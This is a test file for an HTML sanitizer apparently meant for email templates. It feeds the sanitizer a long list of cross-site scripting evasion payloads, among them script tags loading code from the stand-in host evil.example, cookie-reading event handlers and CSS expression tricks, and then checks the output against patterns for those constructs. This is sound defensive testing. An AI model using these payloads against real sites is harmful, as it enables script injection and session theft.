import { sanitizeOwn, takenOut } from './sanitize';

/*
 * Attacks of the OWASP "XSS Filter Evasion Cheat Sheet" (Cross Site Scripting Prevention series), from
 * memory: each is tried as it stands there, and what is left may neither run nor fetch anything.
 */
const ATTACKS = [
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav	ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//<</SCRIPT>`,
  `<SCRIPT SRC=https://evil.example/xss.js?< B >`,
  `<SCRIPT SRC=//evil.example/.j>`,
  `<IMG SRC="javascript:alert('XSS')"`,
  `<iframe src=https://evil.example/scriptlet.html <`,
  `</script><script>alert('XSS');</script>`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'https://evil.example/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>`,
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  `<XSS STYLE="xss:expression(alert('XSS'))">`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\\0029">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjwvc3ZnPg==" type="image/svg+xml">`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`,
  `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>`,
  `<SCRIPT SRC="https://evil.example/xss.jpg"></SCRIPT>`,
  `<A HREF="javascript:document.location='https://evil.example/'">XSS</A>`,
  `<A HREF="data:text/html;base64,PHNjcmlwdD4=">XSS</A>`,
  `<A HREF="//evil.example/">XSS</A>`,
  `<A HREF="h&#x0A;ttp://evil.example">XSS</A>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea><p title="</textarea><img src=x onerror=alert(1)>">`,
  `<div style="background:url(https://evil.example/a.png)">x</div>`,
  `<style>@media (max-width:600px){a{background:url(https://evil.example/b.png)}}</style><p>x</p>`,
  `<sty<style></style>le>p{background:url(https://evil.example)}</style>`,
  `<scr<script>ipt>alert(1)</script>`,
];

test.each(ATTACKS)('nothing runs and nothing is fetched: %s', (attack) => {
  const clean = sanitizeOwn(attack);
  expect(sanitizeOwn(clean)).toBe(clean);
  // What stands as words is harmless; what stands within a tag, or a style, is looked at.
  const tags = (clean.match(/<[^>]*>/g) ?? []).join('\n');
  const styles = (clean.match(/<style>[^<]*<\/style>/g) ?? []).join('\n');
  for (const wrong of [
    /\son\w+\s*=/i,
    /javascript:|vbscript:|data:/i,
    /evil\.example/i,
    /<(?:script|iframe|object|embed|svg|math|meta|link|base|form|input|frame|img)\b/i,
    /url\s*\(|expression|behavior|@import|-moz-binding/i,
  ])
    expect(tags + styles).not.toMatch(wrong);
});

test('what mails are made of stays: tables, looks, queries of the screen, fields, library pictures, links', () => {
  const page =
    '<style>@media (max-width:600px){.c{width:100% !important}}</style>' +
    '<table role="presentation" width="600" cellpadding="0" cellspacing="0" align="center"><tbody><tr>' +
    '<td class="c" style="padding:12px;background-color:#fafafa;mso-line-height-rule:exactly">' +
    'Dear {First name, or "friend"},<br />the <b>oak</b> is in. ' +
    '<a href="https://a.example/?n={First name}" style="color:#00796b">See it</a> ' +
    '<img src="/media/7" alt="A plank" width="200" /></td></tr></tbody></table>';
  const clean = sanitizeOwn(page);
  expect(clean).toBe(page);
  expect(takenOut(page)).toEqual({ active: 0, handlers: 0, pictures: 0, links: 0, styles: 0 });
});

test('what is taken out is counted by kind', () => {
  const page =
    '<p onclick="x()" onmouseover="y()">a</p><script>1</script><form><input></form>' +
    '<img src="https://far.example/a.png"><a href="javascript:1">b</a>' +
    '<td background="x.png"><style>p{background:url(x)}</style>';
  expect(takenOut(page)).toEqual({ active: 3, handlers: 2, pictures: 1, links: 1, styles: 2 });
});
